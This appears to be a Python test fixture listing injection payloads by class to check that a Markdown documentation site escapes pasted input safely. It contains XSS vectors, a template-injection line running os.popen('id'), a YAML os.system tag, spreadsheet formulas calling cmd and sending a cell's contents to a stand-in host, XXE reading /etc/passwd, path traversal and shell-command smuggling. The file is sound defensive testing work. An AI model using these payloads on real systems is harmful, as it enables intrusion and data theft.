"""What somebody might paste, by class. Each would set ``window.__pwned``, ask ``naboby.example`` or open a dialog if it ran."""

_SCRIPT_TAGS = r"""
<script>window.__pwned=1</script>
<SCRIPT>window.__pwned=1</SCRIPT>
<ScRiPt >window.__pwned=1</sCrIpT >
<script src=https://naboby.example/x.js></script>
<script src=//naboby.example/x.js></script>
<script/src=https://naboby.example/x.js></script>
<script
>window.__pwned=1</script>
<script>window.__pwned=1
<script>window.__pwned=1//
<<script>window.__pwned=1//<</script>
<scr<script>ipt>window.__pwned=1</scr</script>ipt>
<script type=module>window.__pwned=1</script>
<script type=text/javascript>window.__pwned=1</script>
<script async src=data:text/javascript,window.__pwned=1></script>
</script><script>window.__pwned=1</script>
</title><script>window.__pwned=1</script>
</textarea><script>window.__pwned=1</script>
</style><script>window.__pwned=1</script>
</noscript><script>window.__pwned=1</script>
--><script>window.__pwned=1</script>
]]><script>window.__pwned=1</script>
<!--><script>window.__pwned=1</script>
<!--<script>window.__pwned=1</script>-->
<![CDATA[<script>window.__pwned=1</script>]]>
<?xml version="1.0"?><script>window.__pwned=1</script>
<template><script>window.__pwned=1</script></template>
<x><script>window.__pwned=1</script></x>
<p><script>window.__pwned=1</script></p>
<plaintext>
<xmp><script>window.__pwned=1</script>
"""

_EVENT_HANDLERS = r"""
<img src=x onerror=window.__pwned=1>
<img src=x onerror="window.__pwned=1">
<img/src=x/onerror=window.__pwned=1>
<IMG SRC=x ONERROR=window.__pwned=1>
<img src='x' onerror='window.__pwned=1'>
<img src=x:x onerror=window.__pwned=1//
<img srcset=x onerror=window.__pwned=1>
<image src=x onerror=window.__pwned=1>
<input autofocus onfocus=window.__pwned=1>
<select autofocus onfocus=window.__pwned=1>
<textarea autofocus onfocus=window.__pwned=1>
<body onload=window.__pwned=1>
<body onpageshow=window.__pwned=1>
<details open ontoggle=window.__pwned=1>
<video><source onerror=window.__pwned=1></video>
<video src=x onerror=window.__pwned=1></video>
<audio src=x onerror=window.__pwned=1></audio>
<marquee onstart=window.__pwned=1>x</marquee>
<div onpointerrawupdate=window.__pwned=1>x</div>
<div style=animation-name:x onanimationstart=window.__pwned=1>x</div>
<a href=# onclick=window.__pwned=1>x</a>
<a onmouseover=window.__pwned=1>x</a>
<button onclick=window.__pwned=1>x</button>
<b onmouseenter=window.__pwned=1>x</b>
<object data=x onerror=window.__pwned=1></object>
<link rel=stylesheet href=x onerror=window.__pwned=1>
<style onload=window.__pwned=1></style>
<frameset onload=window.__pwned=1>
<p id=x tabindex=1 onfocus=window.__pwned=1>x</p>
<xss onclick=window.__pwned=1>x</xss>
<dialog open onclose=window.__pwned=1>x</dialog>
<input type=image src=x onerror=window.__pwned=1>
"""

_BROKEN_OUT_OF_AN_ATTRIBUTE = r"""
" onmouseover="window.__pwned=1
" autofocus onfocus="window.__pwned=1" x="
' onmouseover='window.__pwned=1
"><script>window.__pwned=1</script>
'><script>window.__pwned=1</script>
"><img src=x onerror=window.__pwned=1>
'><img src=x onerror=window.__pwned=1>
"/><svg onload=window.__pwned=1>
" style="background:url(https://naboby.example/x)
` onmouseover=window.__pwned=1
x" onclick=window.__pwned=1 title="
"></a><script>window.__pwned=1</script>
"></title><script>window.__pwned=1</script>
"><meta http-equiv=refresh content=0;url=https://naboby.example/>
&quot; onmouseover=&quot;window.__pwned=1
&#34;&gt;&lt;script&gt;window.__pwned=1&lt;/script&gt;
"@/ href="@/
="@/begreber/
"""

_SVG_AND_MATHML = r"""
<svg onload=window.__pwned=1>
<svg/onload=window.__pwned=1>
<svg><script>window.__pwned=1</script></svg>
<svg><script href=data:text/javascript,window.__pwned=1 /></svg>
<svg><animate onbegin=window.__pwned=1 attributeName=x dur=1s></svg>
<svg><set onbegin=window.__pwned=1 attributename=x></svg>
<svg><a xlink:href="javascript:window.__pwned=1"><text y=20>x</text></a></svg>
<svg><a><animate attributeName=href values=javascript:window.__pwned=1 /><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>window.__pwned=1</script></svg>#x"/></svg>
<svg><foreignObject><img src=x onerror=window.__pwned=1></foreignObject></svg>
<svg><style><img src=x onerror=window.__pwned=1></style></svg>
<svg></p><style><a id="</style><img src=x onerror=window.__pwned=1>">
<svg><title><img src=x onerror=window.__pwned=1></title></svg>
<math><a xlink:href="javascript:window.__pwned=1">x</a></math>
<math href="javascript:window.__pwned=1">x</math>
<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1></style></mglyph></table></mtext></math>
<math><annotation-xml encoding="text/html"><script>window.__pwned=1</script></annotation-xml></math>
<math><mi xlink:href="data:text/html,<script>window.__pwned=1</script>">x</mi></math>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=window.__pwned=1>
"""

_FRAMES_FORMS_AND_BASE = r"""
<iframe src="javascript:window.__pwned=1"></iframe>
<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>
<iframe src=https://naboby.example/></iframe>
<embed src="javascript:window.__pwned=1">
<object data="data:text/html,<script>parent.__pwned=1</script>"></object>
<form action="javascript:window.__pwned=1"><button>x</button></form>
<form id=f></form><button form=f formaction="javascript:window.__pwned=1">x</button>
<form action=https://naboby.example/><input name=q>
<isindex action="javascript:window.__pwned=1">
<base href="https://naboby.example/">
<base href="javascript:window.__pwned=1//">
<meta http-equiv="refresh" content="0;url=javascript:window.__pwned=1">
<meta http-equiv="refresh" content="0;url=https://naboby.example/">
<meta http-equiv="Content-Security-Policy" content="script-src *">
<link rel=stylesheet href=https://naboby.example/x.css>
<link rel=preload as=image href=https://naboby.example/x.png>
<link rel=dns-prefetch href=//naboby.example>
<style>@import url(https://naboby.example/x.css);</style>
<style>*{background:url(https://naboby.example/x.png)}</style>
<p style="background:url(https://naboby.example/x.png)">x</p>
<table background=https://naboby.example/x.png><tr><td>x
<img src=https://naboby.example/x.png>
<input name=attributes><input name=innerHTML>
<a id=haandbogSoegning></a><a id=haandbogSoegning name=x></a>
<form id=soegning></form><img name=body>
<a name=__md_scope href=https://naboby.example/>x</a>
</article></main></body></html>
<!--
-->
<dialog open>x
"""

_SCHEMES = r"""
javascript:window.__pwned=1
JaVaScRiPt:window.__pwned=1
javascript&colon;window.__pwned=1
javascript&#58;window.__pwned=1
&#106;avascript:window.__pwned=1
java&Tab;script:window.__pwned=1
java&NewLine;script:window.__pwned=1
[x](javascript:window.__pwned=1)
[x](JAVASCRIPT:window.__pwned=1)
[x]( javascript:window.__pwned=1)
[x](<javascript:window.__pwned=1>)
[x](java	script:window.__pwned=1)
[x](javascript&colon;window.__pwned=1)
[x](javascript&#x3a;window.__pwned=1)
[x](&#x6A;avascript:window.__pwned=1)
[x](javascript://https://x.dk/%0awindow.__pwned=1)
[x](\javascript:window.__pwned=1)
[x](%6aavascript:window.__pwned=1)
[x](vbscript:msgbox(1))
[x](data:text/html,<script>window.__pwned=1</script>)
[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)
[x](DATA:image/svg+xml,<svg onload=window.__pwned=1>)
[x](file:///etc/passwd)
[x](blob:https://naboby.example/1)
[x](view-source:https://naboby.example/)
[x](feed:javascript:window.__pwned=1)
[x](//naboby.example/)
[x](\\naboby.example/)
[x](/\naboby.example/)
[x](@/begreber/)
[x](../../../../etc/passwd)
[x](http://https://naboby.example)
[x](https://naboby.example" onmouseover="window.__pwned=1)
[x](https://naboby.example/'onmouseover='window.__pwned=1)
[x](https://naboby.example "title\" onmouseover=window.__pwned=1")
[x](https://bruger:kode@naboby.example/)
[x](mailto:?subject=x&body=<script>window.__pwned=1</script>)
[x][javascript:window.__pwned=1]
<javascript:window.__pwned=1>
<https://naboby.example/"onmouseover="window.__pwned=1>
<https://naboby.example/><script>window.__pwned=1</script>
"""

_MARKDOWN = r"""
![x](javascript:window.__pwned=1)
![x](https://naboby.example/x.png)
![x](x" onerror="window.__pwned=1)
![x][begreber/x]
[![x](https://naboby.example/x.png)](javascript:window.__pwned=1)
[x]{onclick=window.__pwned=1}
[x](https://x.dk){onclick="window.__pwned=1"}
# x {onclick=window.__pwned=1}
# x {: onclick=window.__pwned=1 }
{: onclick="window.__pwned=1" }
*x*{: style="background:url(https://naboby.example/x)" }
`<script>window.__pwned=1</script>`
``` <img src=x onerror=window.__pwned=1>
~~~html onmouseover=window.__pwned=1
    <script>window.__pwned=1</script>
> <script>window.__pwned=1</script>
- <script>window.__pwned=1</script>
1. <script>window.__pwned=1</script>
\<script>window.__pwned=1\</script>
**<script>**window.__pwned=1**</script>**
<script>*window.__pwned=1*</script>
<b>fed</b> og <i>kursiv</i>
<div markdown="1">**x**</div>
*[x]: <script>window.__pwned=1</script>
[^1]: <script>window.__pwned=1</script>
--8<-- "mkdocs.yml"
;--8<-- "../../etc/passwd"
--8<-- "https://naboby.example/x.md"
!!! danger "<script>window.__pwned=1</script>"
??? note "x" onclick=window.__pwned=1
::: haandbog.site
=== "<script>window.__pwned=1</script>"
:fontawesome-brands-x:{onclick=window.__pwned=1}
$$\href{javascript:window.__pwned=1}{x}$$
[TOC]
| a | b |
| a \| <script>window.__pwned=1</script> | b |
|---|---|
a | b | c
* * *
---
===
x  y
"""

_MARKDOWN_BLOCKS = (
    "[x]: javascript:window.__pwned=1\n\n[x]",
    '[x]: https://naboby.example/ "\\" onmouseover=window.__pwned=1"\n\n[x]',
    "<div>\n<script>window.__pwned=1</script>\n</div>",
    "<script>\n\nwindow.__pwned=1\n\n</script>",
    "```html\n<script>window.__pwned=1</script>\n```",
    "```{.html onclick=window.__pwned=1}\nx\n```",
    "```mermaid\ngraph TD; A[<img src=x onerror=window.__pwned=1>]\n```",
    "| a | b |\n|---|---|\n| <script>window.__pwned=1</script> | x |",
    "| a |\n|:-:|\n| [x](javascript:window.__pwned=1) |",
    "x\n===\n<script>window.__pwned=1</script>",
    "---\ntitle: x\ntemplate: ../x.html\n---\nx",
    "- x\n\n      <script>window.__pwned=1</script>",
    "> > > > > > > > > > > x\n<img src=x onerror=window.__pwned=1>",
    "x\n{: onclick=window.__pwned=1 }",
)

_TEMPLATES = r"""
{{ 7*7 }}
{{7*7}}{% raw %}
{% include "404.html" %}
{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}
{{ config.__class__.__init__.__globals__ }}
{{ printer.view(view) }}
{{ cycler.__init__.__globals__.os.popen('id').read() }}
{# en kommentar #}
{%- set x = 1 -%}
{% endblock %}
{% raw %}{{ x }}{% endraw %}
${7*7}
#{7*7}
<%= 7*7 %>
{{constructor.constructor('window.__pwned=1')()}}
{antal} {tekst} {vist}
%s %d %(x)s %n
{0.__class__}
$& $1 $` \1 \g<0>
"""

_YAML_AND_FRONT_MATTER = r"""
---
--- !!python/object/apply:os.system ["id"]
!!python/object/apply:os.system ["id"]
!ENV HOME
!!binary AAAA
&x *x
*x
<<: *x
x: y
- x
? x
| x
> x
@x
%YAML 1.2
title: "<script>window.__pwned=1</script>"
...
# x
nej
null
~
0123
1e1000
.inf
2021-02-30
12:30
"""

_FORMULAS = r"""
=1+1
=cmd|'/C calc'!A0
=HYPERLINK("https://naboby.example/?"&A1,"x")
=WEBSERVICE("https://naboby.example/")
=IMPORTXML("https://naboby.example/","//a")
=DDE("cmd";"/C calc";"x")
+1+1
-1+1
@SUM(1+1)
-2+3+cmd|'/C calc'!A0
;=1+1
,=1+1
"=1+1"
'=1+1
{=1+1}
＝1+1
%0A=1+1
=1+1";=1+1
"""

_FEED_JSON_AND_CALENDAR = r"""
</title></entry><entry><title>x
]]></content><script>window.__pwned=1</script>
<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>
<!ENTITY x "y">
&xxe;
&lt;script&gt;window.__pwned=1&lt;/script&gt;
&amp;lt;script&amp;gt;
&#60;script&#62;window.__pwned=1&#60;/script&#62;
&#x3c;img src=x onerror=window.__pwned=1&#x3e;
&lt
&nbsp;&shy;&zwj;
&
","x":"y
"}</script><script>window.__pwned=1</script>
\"}];window.__pwned=1;//
\u003cscript\u003ewindow.__pwned=1\u003c/script\u003e
\x3cscript\x3ewindow.__pwned=1\x3c/script\x3e
';window.__pwned=1;'
";window.__pwned=1;"
`;window.__pwned=1;`
__proto__
constructor
toString
hasOwnProperty
null,null
\r\nBEGIN:VEVENT\r\nSUMMARY:x
%0d%0aSet-Cookie:x=1
"""

_LINE_INJECTION = (
    "x\r\nBEGIN:VEVENT\r\nSUMMARY:y\r\nEND:VEVENT",
    "x\nSet-Cookie: y=1",
    "x\n\n<script>window.__pwned=1</script>",
    "=1+1\n=1+1",
    "x\n---\ntitel: y",
    "x\ttab\tx",
)

_LETTERS = (
    "x\u0000<script>window.__pwned=1</script>",
    "<scr\u0000ipt>window.__pwned=1</script>",
    "java\u0000script:window.__pwned=1",
    "x\u0007\u0008\u001b[31mrød",
    "x\u007f\u0085y",
    "x\u2028window.__pwned=1//",
    "x\u2029window.__pwned=1//",
    "\u202egnp.tlA\u202c",
    "\u2066x\u2069 \u2067y\u2069",
    "lang\u200bord\u200c og\u200d",
    "\ufeffbegynder med BOM",
    "blø\u00adddelt",
    "fuldbredde ＜script＞window.__pwned=1＜/script＞",
    "ſcript <ſcript>window.__pwned=1</ſcript>",
    "to tegn a\u030a, e\u0301",
    "Zalgo z\u0300\u0301\u0302\u0303\u0304\u0305",
    "\ud7ff \ue000 privat",
    "\uffff \ufffe ikke et tegn",
    "\U0001f469\u200d\U0001f4bb og \U0001f1e9\U0001f1f0",
    "\U000e0041\U000e0042 mærketegn",
    "smalt\u202fog fast\u00a0mellemrum",
    "مرحبا שלום blandet retning",
    "İstanbul ıI ß ﬁ ǅ",
    "kyrillisk аkаdemiker",
    "x" * 119,
    "lang " * 20,
    "W" * 60 + "<wbr>" + "W" * 40,
)

_NAMES_AND_IDS = r"""
../../etc/passwd
..\..\windows
/index.html
x/../../y
CON
a"b'c`d
#fragment?x=1&y=2
%2e%2e%2f
%3Cscript%3Ewindow.__pwned=1%3C/script%3E
index
404
__proto__/x
x y z
-rf
$(id)
`id`
;id
|id
&& id
"""


def _lines(text: str) -> tuple[str, ...]:
    return tuple(line for line in text.split("\n") if line.strip())


PAYLOADS: dict[str, tuple[str, ...]] = {
    "script-mærker": _lines(_SCRIPT_TAGS),
    "hændelser": _lines(_EVENT_HANDLERS),
    "ud af en attribut": _lines(_BROKEN_OUT_OF_AN_ATTRIBUTE),
    "SVG og MathML": _lines(_SVG_AND_MATHML),
    "rammer, formularer, base": _lines(_FRAMES_FORMS_AND_BASE),
    "adresser i forklædning": _lines(_SCHEMES),
    "Markdown": (*_lines(_MARKDOWN), *_MARKDOWN_BLOCKS),
    "skabeloner": _lines(_TEMPLATES),
    "YAML og hoved": _lines(_YAML_AND_FRONT_MATTER),
    "formler": _lines(_FORMULAS),
    "feed, JSON, kalender": (*_lines(_FEED_JSON_AND_CALENDAR), *_LINE_INJECTION),
    "tegn": _LETTERS,
    "navne og stier": _lines(_NAMES_AND_IDS),
}

# Each once, with its class, in a fixed order.
ALL: tuple[tuple[str, str], ...] = tuple(dict.fromkeys((name, payload) for name, payloads in PAYLOADS.items() for payload in payloads))
